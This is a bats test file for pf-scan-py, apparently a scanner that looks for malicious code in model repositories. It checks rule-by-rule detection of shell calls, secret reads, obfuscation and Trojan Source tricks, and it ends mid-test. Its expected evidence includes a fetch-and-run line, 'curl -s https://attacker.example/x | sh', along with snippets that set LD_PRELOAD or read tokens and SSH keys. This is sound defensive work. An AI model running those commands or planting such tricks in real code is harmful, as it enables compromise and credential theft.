#!/usr/bin/env bats
# pf-scan-py: benign modelling code stays quiet; one malicious sample per
# rule and per obfuscation form, asserted one by one; the tokenizer's edge
# cases; notebooks; the caps at cap and cap+1. Readable samples live in
# tests/fixtures/py/, the rest comes from tests/fixtures/gen-py.py.

bats_require_minimum_version 1.5.0

setup() {
	load helpers
	FX="$PF_REPO/tests/fixtures/py"
	D="$BATS_TEST_TMPDIR/model"
	mkdir -p "$D"
}

# put FIXTURE FILE [ARG]: a generated fixture as $D/FILE
put() {
	gen_fixture py "$1" ${3:+"$3"} >"$D/$2"
}

# expect SAMPLE RULE NAME: scanning tests/fixtures/py/malicious/SAMPLE.py
# fails (1) with a finding of RULE whose resolved name is NAME
expect() {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/$1.py"
	summary_only failed
	jq -e --arg r "$2" --arg n "$3" \
	    '.findings | any(.rule == $r and .evidence.name == $n)' <<<"$output"
}

# expect_fold SAMPLE FORM NAME: a name built by obfuscation FORM
expect_fold() {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/$1.py"
	summary_only failed
	jq -e --arg f "$2" --arg n "$3" '.findings | any(
	    .rule == "py.obfuscation.constructed-name" and .evidence.fold == $f
	    and .evidence.name == $n)' <<<"$output"
}

has_rule() {
	jq -e --arg r "$1" '.findings | any(.rule == $r)' <<<"$output" >/dev/null
}

fetch_json() {
	pf_manifest "modeling_x.py=$1/m.py" "demo.ipynb=$1/n.ipynb" \
	    "config.json=$1/config.json"
}

# ------------------------------------------------------------ the tool

@test "pf-scan-py: --help prints usage on stdout and exits 0" {
	run -0 --separate-stderr pf-scan-py --help
	[[ "${lines[0]}" == "usage: pf-scan-py "* ]]
	[ -z "$stderr" ]
}

@test "pf-scan-py: --version prints the version" {
	run -0 --separate-stderr pf-scan-py --version
	[ "$output" = "pf-scan-py 0.1.0" ]
}

@test "pf-scan-py: an unknown option exits 2 on stderr only" {
	run -2 --separate-stderr pf-scan-py --bogus
	[ -z "$output" ]
	[[ "$stderr" == *"try 'pf-scan-py --help'"* ]]
}

@test "pf-scan-py: the man page synopsis uses the usage words" {
	run -0 --separate-stderr pf-scan-py --help
	local o
	for o in $(grep -oE -- '--[a-z]+' <<<"$output" | sort -u); do
		grep -qE -- "^\.(It|Op) Fl ([a-zA-Z] , )?-${o#--}( |\$)" \
		    "$PF_REPO/man/pf-scan-py.1"
	done
}

@test "pf-scan-py: -i with paths is a usage error" {
	run -2 --separate-stderr pf-scan-py -i fetch.json "$D"
	[ -z "$output" ]
	[[ "$stderr" == *"exclude each other"* ]]
}

@test "pf-scan-py: a truncated fetch.json on stdin exits 2 and names stdin" {
	run -2 --separate-stderr pf-scan-py <<<'{"stage": "fetch",'
	[ -z "$output" ]
	[[ "$stderr" == "pf-scan-py: <stdin>: "* ]]
}

@test "pf-scan-py: a fetch.json over PF_MAX_ARTIFACT exits 2" {
	truncate -s $((64 * 1024 * 1024 + 1)) "$BATS_TEST_TMPDIR/big.json"
	run -2 --separate-stderr pf-scan-py -i "$BATS_TEST_TMPDIR/big.json"
	[ -z "$output" ]
	[[ "$stderr" == *"PF_MAX_ARTIFACT"* ]]
}

@test "pf-scan-py: an artifact of another stage exits 2" {
	run -2 --separate-stderr pf-scan-py <<<'{"pathfinder_version": "0.1.0",
	    "stage": "plan", "model": {}, "findings": []}'
	[ -z "$output" ]
	[[ "$stderr" == *"expected 'fetch'"* ]]
}

@test "pf-scan-py: a missing path exits 2" {
	run -2 --separate-stderr pf-scan-py "$D/nope.py"
	[ -z "$output" ]
	[[ "$stderr" == *"nope.py"* ]]
}

@test "pf-scan-py: a malformed rule table exits 2 and writes nothing" {
	echo '{"rules": [{"id": "py.x", "severity": "fatal", "builtin": "x"}]}' \
	    >"$BATS_TEST_TMPDIR/rules.json"
	run -2 --separate-stderr pf-scan-py --rules "$BATS_TEST_TMPDIR/rules.json" \
	    "$FX/benign"
	[ -z "$output" ]
	[[ "$stderr" == *"bad severity"* ]]
}

@test "pf-scan-py: a bad python section in the policy exits 2" {
	pf_policy '.python.entropy_min_bits = "high"'
	run -2 --separate-stderr pf-scan-py "$FX/benign"
	[ -z "$output" ]
	[[ "$stderr" == *"python.entropy_min_bits"* ]]
}

@test "pf-scan-py: stdout on /dev/full exits 3" {
	run -3 --separate-stderr bash -c 'exec pf-scan-py "$1" >/dev/full' _ "$FX/benign"
	[[ "$stderr" == *"No space left on device"* ]]
}

@test "pf-scan-py: -o writes the artifact atomically, even on a verdict" {
	run -1 --separate-stderr pf-scan-py -o "$BATS_TEST_TMPDIR/scan-py.json" \
	    "$FX/malicious/process-shell.py"
	[ -z "$output" ]
	jq -e '.stage == "scan-py" and .status == "failed"' "$BATS_TEST_TMPDIR/scan-py.json"
}

@test "pf-scan-py: reads fetch.json, scans .py and .ipynb only, copies the model" {
	cp "$FX/malicious/process-shell.py" "$D/m.py"
	put notebook-benign n.ipynb
	echo '{}' >"$D/config.json"
	fetch_json "$D" >"$BATS_TEST_TMPDIR/fetch.json"
	run -1 --separate-stderr pf-scan-py -i "$BATS_TEST_TMPDIR/fetch.json"
	summary_only failed
	jq -e '.model.id == "acme/tiny-llama" and .stage == "scan-py"
	    and ([.files[].path] == ["demo.ipynb", "modeling_x.py"])
	    and .files[0].kind == "notebook" and .files[1].kind == "python"
	    and (.findings | all(.file == "modeling_x.py"))' <<<"$output"
}

@test "pf-scan-py: the rule table is named and hashed in the artifact" {
	run -0 --separate-stderr pf-scan-py "$FX/benign"
	jq -e --arg h "$(sha256sum "$PF_REPO/policies/py-rules.json" | cut -d' ' -f1)" \
	    '.rules.table == "py-rules.json" and .rules.sha256 == $h
	    and .rules.count > 40' <<<"$output"
}

@test "pf-scan-py: every rule has an id, a category, a severity and a bandit member" {
	jq -e '[.rules[] | (.id | test("^py\\.[a-z-]+\\.[a-z0-9-]+$"))
	    and (.category | type == "string")
	    and (.severity | IN("critical", "high", "medium", "low", "info"))
	    and has("bandit") and (has("match") or has("builtin"))] | all' \
	    "$PF_REPO/policies/py-rules.json"
}

# ------------------------------------------------------------ benign code

@test "pf-scan-py: benign modelling files (transformers remote code) are clean" {
	run -0 --separate-stderr pf-scan-py "$FX/benign"
	[ -z "$stderr" ]
	jq -e '.status == "passed" and .findings == []
	    and (.files | length == 4) and (.files | all(.tokens > 0))' <<<"$output"
}

@test "pf-scan-py: Hub-style remote code (45 modelling, configuration, tokenization files) has no critical or high finding" {
	run -0 --separate-stderr pf-scan-py "$FX/hub"
	[ -z "$stderr" ]
	jq -e '.status == "passed" and (.files | length == 45)
	    and ([.findings[] | select(.severity == "critical" or .severity == "high")] == [])' <<<"$output"
}

@test "pf-scan-py: torch.load with weights_only=True is quiet" {
	printf 'import torch\nsd = torch.load("w.pt", weights_only=True)\n' >"$D/a.py"
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "pf-scan-py: yaml.safe_load and yaml.load with SafeLoader are quiet" {
	printf 'import yaml\na = yaml.safe_load(s)\nb = yaml.load(s, Loader=yaml.SafeLoader)\nc = yaml.load(s, yaml.CSafeLoader)\n' >"$D/a.py"
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "pf-scan-py: methods named like builtins and shadowed builtins are not builtins" {
	printf 'import re\nmodel.eval()\nr = re.compile("x")\ndef f(exec):\n    return exec(1)\n' >"$D/a.py"
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "pf-scan-py: a parameter named like a builtin does not hide the module-level builtin" {
	printf 'def f(exec):\n    return exec(1)\n\nexec(payload)\n' >"$D/a.py"
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | select(.rule == "py.dynamic.exec")] | length == 1
	    and .[0].evidence.line == 4' <<<"$output"
}

@test "pf-scan-py: a pip install hint in an error message is quiet" {
	printf 'raise ImportError("run pip install flash-attn to use this model")\n' >"$D/a.py"
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "pf-scan-py: a benign notebook is clean and its magics are ignored" {
	put notebook-benign n.ipynb
	run -0 --separate-stderr pf-scan-py "$D/n.ipynb"
	jq -e '.findings == [] and .files[0].cells == 3' <<<"$output"
}

@test "pf-scan-py: an annotated target is what stands before the colon, never the annotation" {
	cat >"$D/a.py" <<'EOF'
from typing import Any, Optional
import dataclasses


class Blocks:
    def __init__(self):
        self.ffn_config: dict[str, Any] = {}
        self.ids: list[int] = []
        self.a.b: dict[str, int] = {}
        self.pending: "dict[str, list[int]]"
        self.cache: Optional[dict] = dict(a=1)
        self.field: list = dataclasses.field(default_factory=list)
        self.ids[0]: int = 3
        self.count: int = 0
        self.count += 1
        if (n := len(self.ids)) > 2:
            self.ids[n - 1] += n


table: dict[str, int] = {}
table["k"]: int = 1
only: list[str]
registry = Blocks()
EOF
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	[ -z "$stderr" ]
	jq -e '.findings == []' <<<"$output"
}

@test "pf-scan-py: annotated assignments to dangerous targets are still assignments" {
	cat >"$D/a.py" <<'EOF'
import os, builtins, torch
from typing import Any
os.environ["LD_PRELOAD"]: str = "/tmp/x.so"
builtins.open: Any = None
torch.load: Any = None
value: Any = os.system("id")
EOF
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | [.evidence.line, .rule, .evidence.name]] == [
	    [3, "py.tamper.environ", "os.environ"],
	    [4, "py.tamper.builtins", "builtins.open"],
	    [5, "py.tamper.monkey-patch", "torch.load"],
	    [6, "py.process.shell", "os.system"]]' <<<"$output"
}

@test "pf-scan-py: a type in an annotation or a signature is no reference to the function" {
	cat >"$D/a.py" <<'EOF'
import subprocess
from typing import Optional


class Runner:
    proc: Optional[subprocess.Popen] = None

    def wait(self, p: subprocess.Popen, t: float = 1.0) -> subprocess.Popen:
        return p
EOF
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[].rule] == ["py.import.process"]' <<<"$output"
	printf 'import subprocess\ndef f(p=subprocess.Popen):\n    return p\n' >"$D/b.py"
	run -1 --separate-stderr pf-scan-py "$D/b.py"
	jq -e '.findings | any(.rule == "py.process.subprocess" and .evidence.line == 2)' <<<"$output"
}

@test "pf-scan-py: a module-level call of a local def follows its body and names what it does" {
	cat >"$D/a.py" <<'EOF'
import atexit, os, socket


def quiet():
    return {"a": 1}


def helper():
    atexit.register(print)


def outer():
    helper()


class Spawner:
    def __init__(self):
        os.system("id")


quiet()
outer()
Spawner()
EOF
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | select(.rule == "py.import-time.call")
	    | [.evidence.line, .evidence.name, .severity, .message]] == [
	    [22, "outer", "medium", "calls '\''outer'\'' at module level, so its body runs on import: calls '\''helper'\'' on line 13"],
	    [23, "Spawner", "critical", "calls '\''Spawner'\'' at module level, so its body runs on import: py.process.shell '\''os.system'\'' on line 18"]]' <<<"$output"
}

# ------------------------------------------------------------ one sample per rule

@test "rule py.process.shell (B605)" {
	expect process-shell py.process.shell os.system
	jq -e '.findings[0].evidence.bandit == "B605"' <<<"$output"
}
@test "rule py.process.exec (B606)" { expect process-exec py.process.exec os.execv; }
@test "rule py.process.subprocess-shell (B602)" {
	expect process-subprocess-shell py.process.subprocess-shell subprocess.run
	! has_rule py.process.subprocess
}
@test "rule py.process.subprocess (B603)" { expect process-subprocess py.process.subprocess subprocess.Popen; }
@test "rule py.process.pty" { expect process-pty py.process.pty pty.spawn; }
@test "rule py.dynamic.exec (B102)" { expect dynamic-exec py.dynamic.exec builtins.exec; }
@test "rule py.dynamic.eval (B307)" { expect dynamic-eval py.dynamic.eval builtins.eval; }
@test "rule py.dynamic.compile" { expect dynamic-compile py.dynamic.compile builtins.compile; }
@test "rule py.dynamic.marshal (B302)" { expect dynamic-marshal py.dynamic.marshal marshal.loads; }
@test "rule py.dynamic.code-object" { expect dynamic-code-object py.dynamic.code-object types.FunctionType; }
@test "rule py.dynamic.load-source" { expect dynamic-load-source py.dynamic.load-source runpy.run_path; }
@test "rule py.dynamic.import (medium: exit 0)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/dynamic-import.py"
	jq -e '.findings[0].rule == "py.dynamic.import" and .findings[0].severity == "medium"' <<<"$output"
}
@test "rule py.dynamic.namespace" { expect dynamic-namespace py.dynamic.namespace __builtins__; }
@test "rule py.deserialize.pickle (B301)" { expect deserialize-pickle py.deserialize.pickle pickle.load; }
@test "rule py.deserialize.joblib" { expect deserialize-joblib py.deserialize.joblib joblib.load; }
@test "rule py.deserialize.torch-load (B614)" {
	expect deserialize-torch-load py.deserialize.torch-load torch.load
	jq -e '.findings[0].evidence.bandit == "B614"' <<<"$output"
}
@test "rule py.deserialize.yaml (B506)" { expect deserialize-yaml py.deserialize.yaml yaml.load; }
@test "rule py.deserialize.numpy-pickle" { expect deserialize-numpy-pickle py.deserialize.numpy-pickle numpy.load; }
@test "rule py.network.dns" {
	expect network-dns py.network.dns socket.gethostbyname
	! has_rule py.network.socket
}
@test "rule py.network.socket" { expect network-socket py.network.socket socket.socket; }
@test "rule py.network.urllib (B310)" { expect network-urllib py.network.urllib urllib.request.urlopen; }
@test "rule py.network.http" { expect network-http py.network.http requests.post; }
@test "rule py.network.ftp (B321)" { expect network-ftp py.network.ftp ftplib.FTP; }
@test "rule py.network.smtp" { expect network-smtp py.network.smtp smtplib.SMTP; }
@test "rule py.network.telnet (B312)" { expect network-telnet py.network.telnet telnetlib.Telnet; }
@test "rule py.obfuscation.decode-exec" {
	expect obfuscation-decode-exec py.obfuscation.decode-exec builtins.exec
	jq -e '.findings | any(.rule == "py.obfuscation.decode-exec"
	    and .evidence.fold == "base64" and .severity == "critical")' <<<"$output"
}
@test "rule py.obfuscation.high-entropy" {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/obfuscation-high-entropy.py"
	jq -e '.findings[0].rule == "py.obfuscation.high-entropy"
	    and (.findings[0].evidence.name | startswith("H4sI"))' <<<"$output"
}
@test "rule py.obfuscation.unicode-name: fullwidth letters spell eval" {
	expect obfuscation-unicode-name py.obfuscation.unicode-name eval
	has_rule py.dynamic.eval
}
@test "rule py.source.bidi (B613): Trojan Source's bidi controls, with line, column and the line made visible" {
	put trojan-bidi a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	summary_only failed
	jq -e '[.findings[] | select(.rule == "py.source.bidi")] == [.findings[0]]
	    and .findings[0].severity == "high" and .findings[0].evidence.bandit == "B613"
	    and .findings[0].evidence.line == 2 and .findings[0].evidence.column == 25
	    and .findings[0].evidence.name == "U+202E"
	    and .findings[0].evidence.source == "if access_level != \"none<U+202E> <U+2066># check if admin<U+2069> <U+2066>\":"' <<<"$output"
}

@test "rule py.source.invisible: a zero-width space in a string" {
	put trojan-invisible a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == [.findings[0]] and .findings[0].rule == "py.source.invisible"
	    and .findings[0].severity == "high"
	    and .findings[0].evidence.line == 2 and .findings[0].evidence.column == 26
	    and .findings[0].evidence.name == "U+200B"
	    and .findings[0].evidence.source == "    return user == \"admin<U+200B>\""' <<<"$output"
}

@test "rule py.source.homoglyph: a Cyrillic letter in a name that reads as eval" {
	put trojan-homoglyph a.py
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | select(.rule == "py.source.homoglyph") | [.evidence.line, .evidence.column,
	        .severity, .evidence.name, .evidence.source]] == [
	    [4, 5, "high", "<U+0435>val", "def <U+0435>val(s):"],
	    [8, 10, "high", "<U+0435>val", "result = <U+0435>val(\"1 + 1\")"]]
	and (.findings[0].message | endswith("reads as '\''eval'\''"))
	and (.findings | any(.rule == "py.import-time.call" and .evidence.name == "<U+0435>val"))' <<<"$output"
}

@test "pf-scan-py: non-ASCII text that hides nothing is quiet" {
	{
		printf '\xef\xbb\xbf# -*- coding: utf-8 -*-\n'
		printf 'α = 0.1\nρ_max: float = 1.0\nΔt = α * ρ_max\n'
		printf 'WARN = "\xe2\x9a\xa0\xef\xb8\x8f careful"\nKEY = "1\xef\xb8\x8f\xe2\x83\xa3"\n'
		printf 'FAMILY = "\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9"\n'
		printf 'FA = "\xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae\xd9\x88\xd8\xa7\xd9\x87\xd9\x85"\n'
		printf 'RU = "привет, мир"\nимя = "x"\n'
	} >"$D/a.py"
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

@test "rule py.archive.extract (B202): a Hub download unpacked by tarfile without a filter" {
	expect archive-extract py.archive.extract '<tar>.extractall'
	jq -e '.findings | any(.rule == "py.archive.extract" and .severity == "high" and .evidence.line == 11)' <<<"$output"
}

@test "rule py.archive.extract: zipfile.extractall and shutil.unpack_archive on the model's files" {
	expect archive-extract-zip py.archive.extract '<zip>.extractall'
	jq -e '[.findings[] | select(.rule == "py.archive.extract") | [.evidence.line, .evidence.name]]
	    == [[9, "<zip>.extractall"], [10, "shutil.unpack_archive"]]' <<<"$output"
}

@test "pf-scan-py: filter='data', a member list, or an archive of the machine change the archive verdict" {
	cat >"$D/a.py" <<'EOF'
import shutil, tarfile, zipfile


def f(path, folder):
    with tarfile.open(path) as tar:
        tar.extractall(folder, filter="data")
        tar.extractall(folder, filter=tarfile.data_filter)
        tar.extractall(folder, members=[m for m in tar if m.isfile()])
        tar.extract("config.json", folder, filter="tar")
    zipfile.ZipFile(path).extractall(folder, ["vocab.txt"])
    shutil.unpack_archive(path, folder, filter="data")
    tarfile.open("/usr/share/dict/words.tar").extractall(folder)
    t = tarfile.open(fileobj=path)
    t.extractall(folder, filter="fully_trusted")
EOF
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | [.evidence.line, .rule, .severity, .evidence.name]] == [
	    [12, "py.archive.extract-local", "medium", "<tar:host>.extractall"],
	    [14, "py.archive.extract", "high", "<tar>.extractall"]]' <<<"$output"
}

@test "rule py.network.listen: a socket bound and listening, a socketserver" {
	expect network-listen py.network.listen '<socket>.bind'
	jq -e '[.findings[] | select(.rule == "py.network.listen") | [.evidence.line, .severity, .evidence.name]]
	    == [[8, "high", "<socket>.bind"], [9, "high", "<socket>.listen"],
	        [19, "high", "socketserver.ThreadingTCPServer"]]' <<<"$output"
}

@test "rule py.network.listen: http.server and xmlrpc.server" {
	expect network-listen-http py.network.listen http.server.HTTPServer
	has_rule py.dynamic.eval
	jq -e '.findings | any(.rule == "py.network.listen" and .evidence.name == "xmlrpc.server.SimpleXMLRPCServer")' <<<"$output"
}

@test "rule py.network.listen-config: logging.config.listen" {
	expect network-listen-config py.network.listen-config logging.config.listen
	jq -e '.findings[0].severity == "high"' <<<"$output"
}

@test "pf-scan-py: Trojan Source, extraction and listeners in notebook cells" {
	put trojan-bidi b.py
	gen_fixture py notebook-of "$D/b.py" >"$D/bidi.ipynb"
	gen_fixture py notebook-of "$FX/malicious/archive-extract.py" >"$D/tar.ipynb"
	gen_fixture py notebook-of "$FX/malicious/network-listen.py" >"$D/listen.ipynb"
	gen_fixture py notebook-of "$FX/malicious/network-listen-config.py" >"$D/config.ipynb"
	rm "$D/b.py"
	run -1 --separate-stderr pf-scan-py "$D"
	jq -e '.findings | any(.rule == "py.source.bidi" and .member == "cells[1]"
	        and .evidence.line == 2 and .evidence.column == 25
	        and (.evidence.source | contains("<U+202E>")))
	    and any(.rule == "py.archive.extract" and .member == "cells[1]" and .severity == "high")
	    and any(.rule == "py.network.listen" and .member == "cells[1]" and .evidence.name == "<socket>.bind")
	    and any(.rule == "py.network.listen-config" and .member == "cells[1]")' <<<"$output"
}

@test "rule py.native.ctypes" { expect native-ctypes py.native.ctypes ctypes.CDLL; }
@test "rule py.native.cffi" { expect native-cffi py.native.cffi cffi.FFI; }
@test "rule py.native.load-library" { expect native-load-library py.native.load-library torch.ops.load_library; }
@test "rule py.fs.write-outside: open('~/.bashrc', 'a')" { expect fs-write-outside py.fs.write-outside builtins.open; }
@test "rule py.fs.write-outside: Path.home() / ... .write_text()" { expect fs-write-outside-path py.fs.write-outside '<path>.write_text'; }
@test "rule py.fs.write-outside: shutil.copy to /usr/local/bin" { expect fs-copy-outside py.fs.write-outside shutil.copy; }
@test "rule py.secrets.env: os.environ.get('HF_TOKEN')" { expect secrets-env py.secrets.env os.environ.get; }
@test "rule py.secrets.env: os.environ['AWS_SECRET_ACCESS_KEY']" { expect secrets-env-subscript py.secrets.env os.environ; }
@test "rule py.secrets.env-dump (medium: exit 0)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/secrets-env-dump.py"
	jq -e '.findings[0].rule == "py.secrets.env-dump" and .findings[0].evidence.name == "builtins.dict"' <<<"$output"
}
@test "rule py.secrets.path: ~/.cache/huggingface/token" { expect secrets-path py.secrets.path '~/.cache/huggingface/token'; }
@test "rule py.secrets.path: ~/.ssh/id_rsa built with os.path.join" {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/secrets-path-ssh.py"
	has_rule py.secrets.path
}
@test "rule py.tamper.builtins" { expect tamper-builtins py.tamper.builtins builtins.open; }
@test "rule py.tamper.sys-modules" { expect tamper-sys-modules py.tamper.sys-modules sys.modules; }
@test "rule py.tamper.monkey-patch" { expect tamper-monkey-patch py.tamper.monkey-patch torch.load; }
@test "rule py.tamper.import-hook" { expect tamper-import-hook py.tamper.import-hook sys.meta_path.insert; }
@test "rule py.tamper.sitecustomize" { expect tamper-sitecustomize py.tamper.sitecustomize /sitecustomize.py; }
@test "rule py.tamper.atexit (medium, high at import time)" {
	expect tamper-atexit py.tamper.atexit atexit.register
	jq -e '.findings[0].severity == "high" and .findings[0].evidence.import_time' <<<"$output"
}
@test "rule py.tamper.environ: LD_PRELOAD" { expect tamper-environ py.tamper.environ os.environ; }
@test "rule py.tamper.sys-path (low: exit 0)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/tamper-sys-path.py"
	jq -e '.findings[0].rule == "py.tamper.sys-path" and .findings[0].severity == "low"' <<<"$output"
}
@test "rule py.remote.trust-remote-code" { expect remote-trust-remote-code py.remote.trust-remote-code transformers.AutoModel.from_pretrained; }
@test "rule py.remote.hub-download (medium: exit 0)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/remote-hub-download.py"
	jq -e '.findings[0].rule == "py.remote.hub-download"
	    and .findings[0].evidence.name == "huggingface_hub.hf_hub_download"' <<<"$output"
}
@test "rule py.remote.dynamic-module" { expect remote-dynamic-module py.remote.dynamic-module torch.hub.load; }
@test "rule py.remote.pip-install: [sys.executable, '-m', 'pip', 'install', ...]" {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/remote-pip-install.py"
	has_rule py.remote.pip-install
	has_rule py.process.subprocess
}
@test "rule py.import-time.call: a module-level call of a function that runs a shell" {
	expect import-time-call py.import-time.call _setup_environment
	jq -e '.findings | any(.rule == "py.process.shell" and (.evidence.import_time | not))
	    and any(.rule == "py.import-time.call" and .severity == "critical"
	        and .evidence.line == 9 and .evidence.import_time)' <<<"$output"
}
@test "rule py.import.process (B404)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/import-process.py"
	jq -e '.findings[0].rule == "py.import.process" and .findings[0].evidence.bandit == "B404"' <<<"$output"
}
@test "rule py.import.pickle (B403)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/import-pickle.py"
	jq -e '.findings[0].rule == "py.import.pickle" and .findings[0].evidence.bandit == "B403"' <<<"$output"
}
@test "rule py.import.telnet (B401)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/import-telnet.py"
	jq -e '.findings[0].rule == "py.import.telnet"' <<<"$output"
}
@test "rule py.import.ftp (B402)" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/import-ftp.py"
	jq -e '.findings[0].rule == "py.import.ftp"' <<<"$output"
}
@test "rule py.import.network" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/import-network.py"
	jq -e '.findings[0].rule == "py.import.network" and .findings[0].evidence.name == "socket"' <<<"$output"
}
@test "rule py.import.native" {
	run -0 --separate-stderr pf-scan-py "$FX/malicious/import-native.py"
	jq -e '.findings[0].rule == "py.import.native"' <<<"$output"
}
@test "rule py.source.malformed: an unterminated string" {
	expect source-malformed py.source.malformed "unterminated string literal"
	jq -e '.findings[0].evidence.line == 2 and .findings[0].evidence.column == 5' <<<"$output"
}

@test "rule py.source.encoding: a UTF-7 coding cookie" {
	expect source-encoding py.source.encoding utf-7
	jq -e '.findings[0].evidence.line == 2' <<<"$output"
}

@test "pf-scan-py: a latin-1 cookie on an ASCII file is quiet" {
	printf '# -*- coding: latin-1 -*-\nx = 1\n' >"$D/a.py"
	run -0 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings == []' <<<"$output"
}

# ------------------------------------------------------------ obfuscation forms

@test "form concat: 'sys' + 'tem'" {
	expect_fold fold-concat concat os.system
	has_rule py.process.shell
}
@test "form join: ''.join([...])" {
	expect_fold fold-join join builtins.exec
	has_rule py.dynamic.exec
}
@test "form chr: chr(111) + chr(115) into __import__" {
	expect_fold fold-chr concat os
	jq -e '.findings | any(.rule == "py.process.shell" and .evidence.via == "__import__")' <<<"$output"
}
@test "form chr: ''.join(map(chr, [...])) and a generator of chr()" {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/fold-chr-map.py"
	jq -e '[.findings[] | select(.rule == "py.obfuscation.constructed-name") | .evidence.name]
	    == ["builtins.eval", "builtins.exec"]' <<<"$output"
}
@test "form fromhex: bytes.fromhex(...).decode()" {
	expect_fold fold-fromhex fromhex subprocess
	has_rule py.process.subprocess
}
@test "form rot13: codecs.decode(..., 'rot13')" { expect_fold fold-rot13 rot13 os.system; }
@test "form base64: base64.b64decode(literal)" { expect_fold fold-base64 base64 os.system; }
@test "form reverse: 'metsys'[::-1]" { expect_fold fold-reverse reverse os.system; }
@test "form escape: '\\x73\\x79...'" { expect_fold fold-escape escape os.system; }
@test "form replace: 'sXXysXXtem'.replace('XX', '')" { expect_fold fold-replace replace os.system; }
@test "form dynamic: getattr(builtins, <computed>)" { expect_fold fold-dynamic dynamic 'builtins.<?>'; }
@test "form concat through a variable" {
	expect_fold fold-variable concat builtins.eval
	jq -e '.findings | any(.rule == "py.dynamic.eval" and .evidence.line == 6)' <<<"$output"
}

# ------------------------------------------------------------ name resolution

@test "resolve: import os as o; o.system" { expect resolve-alias py.process.shell os.system; }
@test "resolve: from os import system as s" { expect resolve-from-import py.process.shell os.system; }
@test "resolve: __import__('os').system" { expect resolve-dunder-import py.process.shell os.system; }
@test "resolve: importlib.import_module('subprocess').call" { expect resolve-import-module py.process.subprocess subprocess.call; }
@test "resolve: getattr(os, 'system')" {
	expect resolve-getattr py.process.shell os.system
	jq -e '.findings[0].evidence.via == "getattr"' <<<"$output"
}
@test "resolve: setattr(torch, 'load', ...)" { expect resolve-setattr py.tamper.monkey-patch torch.load; }
@test "resolve: globals()['os'].system" { expect resolve-globals py.process.shell os.system; }
@test "resolve: vars(builtins)['exec']" { expect resolve-vars py.dynamic.exec builtins.exec; }
@test "resolve: builtins.__dict__['eval']" { expect resolve-builtins py.dynamic.eval builtins.eval; }
@test "resolve: sys.modules['os'].system" {
	expect resolve-sys-modules py.process.shell os.system
	jq -e '.findings | any(.evidence.via == "sys.modules")' <<<"$output"
}
@test "resolve: a function kept in a variable" {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/resolve-variable-alias.py"
	jq -e '.findings | any(.rule == "py.process.subprocess" and .evidence.line == 5)' <<<"$output"
}
@test "resolve: from os import *; system(...)" { expect resolve-star py.process.shell os.system; }

# ------------------------------------------------------------ findings

@test "pf-scan-py: a finding carries file, offset, line, column, name, source and bandit" {
	run -1 --separate-stderr pf-scan-py "$FX/malicious/process-shell.py"
	jq -e --arg f "$FX/malicious/process-shell.py" '.findings[0]
	    | .file == $f and .severity == "critical" and .offset == 78
	    and .evidence == {"line": 4, "column": 1, "name": "os.system",
	        "category": "process", "bandit": "B605", "import_time": true,
	        "source": "os.system(\"curl -s https://attacker.example/x | sh\")"}
	    and (.message | startswith("calls '\''os.system'\''"))
	    and (.id | test("^[0-9a-f]{16}$"))' <<<"$output"
}

@test "pf-scan-py: a call at module level is escalated one severity" {
	printf 'import yaml\nyaml.load(s)\ndef f():\n    yaml.load(s)\n' >"$D/a.py"
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '[.findings[] | [.evidence.line, .severity, .evidence.import_time]]
	    == [[2, "critical", true], [4, "high", false]]' <<<"$output"
}

@test "pf-scan-py: escalate_import_time false keeps the rule's severity" {
	pf_policy '.python.escalate_import_time = false'
	printf 'import yaml\nyaml.load(s)\n' >"$D/a.py"
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].severity == "high"' <<<"$output"
}

@test "pf-scan-py: if __name__ == '__main__' blocks do not run at import" {
	printf 'import os\nif __name__ == "__main__":\n    os.system("id")\n' >"$D/a.py"
	run -1 --separate-stderr pf-scan-py "$D/a.py"
	jq -e '.findings[0].evidence.import_time == false' <<<"$output"
}

@test "pf-scan-py: the policy can disable a rule and change a severity" {
	pf_policy '.python.disable = ["py.import.process"]
	    | .python.severity["py.process.subprocess"] = "low"'
	run -0 --separate-stderr pf-scan-py "$FX/malicious/process-subprocess.py"
	jq -e '[.findings[] | [.rule, .severity]] == [["py.process.subprocess", "low"]]' <<<"$output"
}

@test "pf-scan-py: scan.fail_on decides the verdict" {
	pf_policy '.scan.fail_on = "critical"'
	run -0 --separate-stderr pf-scan-py "$FX/malicious/deserialize-torch-load.py"
